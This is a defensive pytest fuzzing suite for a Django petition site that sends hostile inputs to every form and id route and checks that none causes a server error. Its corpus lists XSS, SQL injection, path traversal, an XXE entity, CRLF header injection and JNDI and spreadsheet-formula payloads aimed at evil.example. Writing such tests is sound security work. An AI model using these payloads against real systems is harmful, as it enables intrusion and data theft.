"""A hostile-input corpus sent to every public form and every id route: never a 5xx, never a logged traceback.

The id routes are read from the URLconf (every route with an ``<id:…>`` in it, in the four language
prefixes), so a route added later is fuzzed too. The forms are listed here, with one valid submission each,
and each hostile value is sent once in every field at the same time and once in the form's main text field
with everything else valid, so that it reaches the service behind the form as well as the form. The five
tests together send well over 2,000 requests; each counts its own and checks a floor.

Refusals are expected and welcome (400, 403, 404, 405, 410, 413, 429); what fails a test is a response of
500 or more, and any record logged at ERROR or above (a refused attack is a WARNING line).
"""

import itertools
import logging
import re
from dataclasses import dataclass, field
from urllib.parse import urlencode

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver
from django.urls.resolvers import LocalePrefixPattern, RoutePattern
from wagtail.models import Locale

from petitions.models import Signature

from ..campaigns.test_rsvp import rsvp_data, rsvp_url
from .conftest import LANGUAGES, sign_data

# --- The corpus ----------------------------------------------------------------------------------------------------

HOSTILE_TEXT = [
    "",
    " ",
    "x" * 10_000,
    "ก" * 3_000,
    "a\x00b",
    "\x00",
    "%00",
    "\u200b\u200b",
    "\u202eevil\u202c",
    "\x07\x1b[31m\r\nSet-Cookie: pwned=1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' OR 1=1 --",
    "'; DROP TABLE petitions_signature; --",
    "../../../../etc/passwd",
    "{{ 7|add:7 }}{% debug %}",
    "${jndi:ldap://evil.example/a}",
    '=HYPERLINK("http://evil.example","x")',
    "😀" * 500,
    "e\u0301" * 2_000,
    "9" * 400,
    "-1",
    "1e309",
    "NaN",
    "ญ" * 121,
]
# Not text at all: sent as raw bytes, which Django would have decoded into mojibake.
INVALID_UTF8 = [b"\xff\xfe", b"\xc3\x28", b"\xed\xa0\x80", "สมชาย".encode("tis-620"), b"\xe0\xb8"]
HOSTILE_IDS = [
    "0",
    "-1",
    "abc",
    "１２３",
    str(2**63 - 1),
    str(2**63),
    str(2**64 + 1),
    "9" * 100,
    "1%00",
    "..%2f",
]
WRONG_METHODS = ["PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND"]
CONTENT_TYPES = [
    ("application/json", b'{"name": "x", "email": ["not", "a", "string"], "consent": {"$gt": ""}}'),
    ("application/json", b"{not json"),
    ("text/plain", b"name=x&email=y"),
    (
        "application/xml",
        b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    ),
    ("multipart/form-data", b"--no boundary given\r\n\r\n"),
    ("multipart/form-data; boundary=xyz", b"--xyz\r\nContent-Disposition: form-data\r\n\r\njunk\r\n--xyz"),
    ("multipart/form-data; boundary=xyz", b'--xyz\r\nContent-Disposition: form-data; name="name"\r\n\r\n'),
    ("multipart/form-data; boundary=" + "b" * 5000, b"--"),
    ("application/x-www-form-urlencoded", b"%%%&&==&=&name=%zz&email=%"),
    ("application/x-www-form-urlencoded; charset=klingon", b"name=x"),
    ("application/x-www-form-urlencoded; charset=utf-16", "name=สมชาย".encode("utf-16")),
    ("", b"name=x"),
    ("application/octet-stream", bytes(range(256)) * 4),
]
TRAVERSALS = [
    "/th/../../etc/passwd",
    "/media/../site_project/settings/base.py",
    "/media/../../etc/passwd",
    "/media/%2e%2e/%2e%2e/etc/passwd",
    "/static/../manage.py",
    "/static/..%2f..%2fmanage.py",
    "/documents/../admin/",
    "/th/petitions/sign/..%2f..%2f/",
    "/embed/petitions/1/../../../admin/",
    "/th/account/members/documents/..%2f1/",
    "/th/%00/",
    "/th/petitions/%00/",
    "/th/petitions/\x00nightlife/",
    "/th/" + "a/" * 400,
    "/th/" + "ก" * 2_000 + "/",
    "/%ff%fe/",
    "/th/petitions/nightlife/%c0%ae%c0%ae/",
]
BAD_HOSTS = [
    "evil.example",
    "127.0.0.1:99999",
    "",
    "a b",
    "127.0.0.1\r\nX-Injected: 1",
    "x" * 300,
    "[::1",
    "localhost@evil",
]
OK_STATUSES = range(200, 500)


# --- Sending and judging -------------------------------------------------------------------------------------------


@dataclass
class Sweep:
    """Sends requests with clients that never raise, and keeps every server error for the report."""

    count: int = 0
    failures: list[str] = field(default_factory=list)

    def send(self, client: Client, method: str, path: str, data=b"", content_type="", **extra) -> int:
        """One request; a dict ``data`` is posted as multipart, as a browser posts a form with a file."""
        self.count += 1
        try:
            if isinstance(data, dict):
                response = client.post(path, data, **extra)
            else:
                response = client.generic(method, path, data, content_type=content_type, **extra)
        except Exception as error:  # noqa: BLE001  (an exception the handler did not turn into a response)
            self.failures.append(f"{method} {path[:150]!r}: raised {type(error).__name__}: {error!s:.200}")
            return 0
        if response.status_code not in OK_STATUSES:
            cause = ""
            if getattr(response, "exc_info", None):
                cause = f": {response.exc_info[0].__name__}: {response.exc_info[1]!s:.200}"
            self.failures.append(f"{method} {path[:150]!r} -> {response.status_code}{cause}")
        return response.status_code

    def post_form(self, client: Client, path: str, data: dict, **kwargs) -> int:
        """Post ``data`` urlencoded, as a browser would; bytes values go as they are, not as UTF-8."""
        body = urlencode(data, doseq=True)
        return self.send(
            client, "POST", path, data=body, content_type="application/x-www-form-urlencoded", **kwargs
        )

    def assert_clean(self, errors: list[logging.LogRecord], *, at_least: int) -> None:
        assert self.count >= at_least, f"only {self.count} requests sent"
        logged = [f"{record.name} {record.levelname}: {record.getMessage()[:200]}" for record in errors]
        report = "\n".join([*self.failures[:40], *logged[:20]])
        assert not self.failures and not logged, (
            f"{len(self.failures)} server errors and {len(logged)} ERROR records in {self.count} requests:\n{report}"
        )


def _client(user=None, **defaults) -> Client:
    defaults.setdefault("HTTP_HOST", "127.0.0.1")
    client = Client(raise_request_exception=False, **defaults)
    if user is not None:
        client.force_login(user)
    return client


@pytest.fixture
def personas(site, admin_user):
    return {
        "anonymous": _client(),
        "representative": _client(site.representative),
        "staff": _client(admin_user),
    }


# --- The public forms ----------------------------------------------------------------------------------------------


@dataclass
class Form:
    name: str
    path: str  # with {lang}
    valid: dict
    main_field: str
    persona: str = "anonymous"
    csrf: bool = (
        True  # the sign and RSVP forms check a signed form token instead (``site_project.form_tokens``)
    )


def public_forms(site) -> list[Form]:
    petition = site.petition
    rsvp = rsvp_data(site.campaign, name="สมชาย", email="", phone="0812345678", people="2")
    profile = {"title": "มูลนิธิเอ", "kind": site.partner.kind, "description": "งานของเรา"}
    document = {"title": "รายงาน", "language": "th", "published_on": "2026-11-01", "summary": ""}
    survey_question = site.survey.form_fields.get().clean_name
    return [
        Form("sign", f"/{{lang}}/petitions/sign/{petition.pk}/", sign_data(petition), "name", csrf=False),
        Form("embed sign", f"/embed/petitions/{petition.pk}/sign/", sign_data(petition), "name", csrf=False),
        Form(
            "closed petition",
            f"/{{lang}}/petitions/sign/{site.closed.pk}/",
            sign_data(site.closed),
            "name",
            csrf=False,
        ),
        Form(
            "cosign",
            f"/{{lang}}/petitions/cosign/{petition.pk}/",
            {"statement": "เห็นด้วย"},
            "statement",
            "representative",
        ),
        Form("confirm", "/{lang}/petitions/confirm/not-a-token/", {}, "token"),
        Form("unsubscribe", "/{lang}/petitions/unsubscribe/not-a-token/", {}, "token"),
        Form(
            "rsvp", rsvp_url(site.campaign, language="{lang}"), rsvp, f"{site.rsvp_prefix}-name", csrf=False
        ),
        Form(
            "share your story",
            "/{lang}/stories/share/",
            {"name": "นก", "story": "เรื่องของฉัน" * 5, "understood": "on"},
            "story",
        ),
        Form(
            "login",
            "/{lang}/account/login/",
            {"username": "rep@example.org", "password": "wrong password"},
            "username",
        ),
        Form("password reset", "/{lang}/account/password-reset/", {"email": "rep@example.org"}, "email"),
        Form(
            "new password",
            "/{lang}/account/password-reset/MQ/set-password/",
            {"new_password1": "a long and good password", "new_password2": "a long and good password"},
            "new_password1",
        ),
        Form(
            "partner safety",
            f"/{{lang}}/account/partners/{site.partner.pk}/safety/",
            {"action": "both"},
            "action",
            "representative",
        ),
        Form(
            "invitation",
            f"/{{lang}}/account/invitation/{site.invitation.pk}/{site.invitation_token}/",
            {"password1": "a long and good password", "password2": "a long and good password"},
            "password1",
        ),
        Form(
            "partner profile",
            f"/{{lang}}/account/partners/{site.partner.pk}/edit/",
            profile,
            "title",
            "representative",
        ),
        Form(
            "share a document",
            "/{lang}/account/members/documents/share/",
            document,
            "title",
            "representative",
        ),
        Form("survey", "/{lang}/survey/", {survey_question: "ดีมาก"}, survey_question),
    ]


def _paths(form: Form) -> list[str]:
    return (
        [form.path.format(lang=language) for language in LANGUAGES] if "{lang}" in form.path else [form.path]
    )


def test_hostile_values_in_every_public_form_never_cause_a_server_error(site, personas, error_log):
    sweep = Sweep()
    languages = itertools.cycle(LANGUAGES)
    for form in public_forms(site):
        client = personas[form.persona]
        fields = [*form.valid, "extra"]
        for number, value in enumerate([*HOSTILE_TEXT, *INVALID_UTF8]):
            path = form.path.format(lang=next(languages))
            sweep.post_form(client, path, {**form.valid, form.main_field: value})
            sweep.post_form(client, path, dict.fromkeys(fields, value if number % 4 else [value, value]))
        for path in _paths(form):
            sweep.send(
                client, "GET", path, QUERY_STRING=urlencode({"next": "//evil.example", "src": "x" * 5000})
            )
            sweep.send(client, "GET", path, QUERY_STRING="next=%ff&src=%c3%28")
        for method in WRONG_METHODS:
            sweep.send(client, method, path)
    sweep.assert_clean(error_log(), at_least=900)


def test_wrong_content_types_and_broken_bodies_are_refused_without_a_server_error(site, personas, error_log):
    sweep = Sweep()
    for form in public_forms(site):
        client = personas[form.persona]
        for path, (content_type, body) in itertools.product(_paths(form)[:2], CONTENT_TYPES):
            sweep.send(client, "POST", path, data=body, content_type=content_type)
        path = _paths(form)[-1]
        sweep.post_form(client, path, {f"field{number}": "x" for number in range(1_500)})  # too many fields
        sweep.send(client, "GET", path, QUERY_STRING="&".join(f"f{number}=x" for number in range(1_500)))
        sweep.post_form(client, path, {**form.valid, form.main_field: "x" * 3_000_000})  # too much data
        sweep.send(
            client,
            "POST",
            path,
            data={**form.valid, "file": [b"MZ\x90\x00" * 10]},  # multipart, a file where none is expected
        )
    sweep.assert_clean(error_log(), at_least=300)


def test_every_form_refuses_a_post_without_its_csrf_token(site, error_log):
    """The sign and RSVP routes are left out: they are CSRF-exempt by design, so that a petition or campaign page
    is one cached copy for every reader, and check their own signed form token (``tests/petitions/
    test_hostile_input.py``, ``tests/campaigns/test_rsvp.py``)."""
    sweep = Sweep()
    strict = {
        "anonymous": _client(enforce_csrf_checks=True),
        "representative": _client(site.representative, enforce_csrf_checks=True),
    }
    for form in public_forms(site):
        if not form.csrf:
            continue
        client = strict[form.persona]
        for path in _paths(form):
            status = sweep.post_form(client, path, form.valid)
            assert status == 403, f"{path} answered {status} without a CSRF token"
            client.cookies["csrftoken"] = "a" * 32
            sweep.post_form(client, path, {**form.valid, "csrfmiddlewaretoken": "b" * 32})
            sweep.post_form(client, path, {**form.valid, "csrfmiddlewaretoken": "\x00" * 64})
            del client.cookies["csrftoken"]
    assert not Signature.objects.exists()
    sweep.assert_clean(error_log(), at_least=100)


# --- Every id route, from the URLconf ------------------------------------------------------------------------------


def id_routes() -> list[str]:
    """Every route with an ``<id:…>`` in it, as a path template, language-prefixed ones once per language."""
    found = []

    def walk(patterns, prefix: str) -> None:
        for entry in patterns:
            pattern = entry.pattern
            if isinstance(pattern, LocalePrefixPattern):
                for language in LANGUAGES:
                    walk(entry.url_patterns, f"{prefix}{language}/")
                continue
            if not isinstance(pattern, RoutePattern):
                continue
            route = prefix + str(pattern)
            if isinstance(entry, URLResolver):
                walk(entry.url_patterns, route)
            elif isinstance(entry, URLPattern) and "<id:" in route:
                found.append("/" + route)

    walk(get_resolver().url_patterns, "")
    return found


def _fill(route: str, id_value: str) -> str:
    route = re.sub(r"<id:[a-z_]+>", id_value, route)
    return re.sub(r"<(?:[a-z]+:)?[a-z_0-9]+>", "x", route)


def test_the_id_routes_come_from_the_urlconf_and_cover_every_app(db):
    routes = id_routes()
    for expected in [
        "/th/petitions/sign/<id:petition_id>/",
        "/my/petitions/confirmed/<id:petition_id>/",
        "/api/petitions/<id:petition_id>/",
        "/embed/petitions/<id:petition_id>/sign/",
        "/km/account/members/documents/<id:document_id>/withdraw/",
        "/en/account/invitation/<id:invitation_id>/<str:token>/",
        "/admin/petitions/export/<id:petition_id>/",
        "/admin/campaigns/<id:page_id>/copy-to-year/",
        "/km/campaigns/rsvp/<id:campaign_id>/<str:block_id>/",
        "/admin/stories/consents/<id:consent_id>/withdraw/",
    ]:
        assert expected in routes


def test_hostile_ids_and_methods_on_every_id_route_never_cause_a_server_error(site, personas, error_log):
    sweep = Sweep()
    real_ids = {str(page.pk) for page in (site.petition, site.partner, site.campaign)} | {
        str(site.document.pk)
    }
    for route in id_routes():
        persona = (
            "staff"
            if route.startswith("/admin/")
            else "representative"
            if "/account/" in route
            else "anonymous"
        )
        for id_value in [*HOSTILE_IDS, *sorted(real_ids)]:
            path = _fill(route, id_value)
            sweep.send(personas[persona], "GET", path)
            sweep.post_form(personas[persona], path, sign_data(site.petition, name="\x00"))
        for method in ["HEAD", *WRONG_METHODS[:3]]:
            sweep.send(personas["anonymous"], method, _fill(route, str(site.petition.pk)))
    sweep.assert_clean(error_log(), at_least=700)


# --- Pages and filters with hostile query strings, traversal and bad hosts ---------------------------------------


def test_pages_filters_traversal_and_bad_hosts_never_cause_a_server_error(site, personas, error_log):
    sweep = Sweep()
    paths = [
        "/healthz",
        "/robots.txt",
        "/sitemap.xml",
        "/api/petitions/",
        "/th/search/",
        "/th/account/members/referrals/",
    ]
    for page in site.pages:
        for language in LANGUAGES:
            translated = page.get_translation_or_none(Locale.objects.get(language_code=language))
            if translated is not None and translated.live:
                paths.append(translated.url)
    filters = [
        "q",
        "page",
        "theme",
        "year",
        "kind",
        "pillar",
        "province",
        "service",
        "language",
        "src",
        "utm_source",
    ]
    values = [
        "x" * 10_000,
        "a\x00b",
        "%00",
        "<script>",
        "' OR 1=1 --",
        "😀" * 500,
        "-1",
        "0",
        str(2**64),
        "1e309",
    ]
    for path, value in itertools.product(paths, values):
        sweep.send(personas["anonymous"], "GET", path, QUERY_STRING=urlencode(dict.fromkeys(filters, value)))
    for path in paths:
        sweep.send(personas["representative"], "GET", path, QUERY_STRING="page=99999999999999999999&q=%00")
        for host in BAD_HOSTS:
            sweep.send(_client(HTTP_HOST=host), "GET", path)
    for path in TRAVERSALS:
        sweep.send(personas["anonymous"], "GET", path)
        sweep.send(personas["staff"], "GET", path)
    sweep.assert_clean(error_log(), at_least=400)


def test_an_empty_post_to_a_rate_limited_password_reset_is_a_429_not_a_500(client, site, settings):
    """Found by the corpus: the refusal was added to a form that was never bound, and raised."""
    settings.PASSWORD_RESET_RATE_LIMIT = "1/3600"
    client.post("/th/account/password-reset/", {"email": "rep@example.org"})
    response = client.post("/th/account/password-reset/", {})
    assert response.status_code == 429
    assert "มีการขอรหัสผ่านใหม่จากการเชื่อมต่อของคุณมากเกินไป" in response.content.decode()
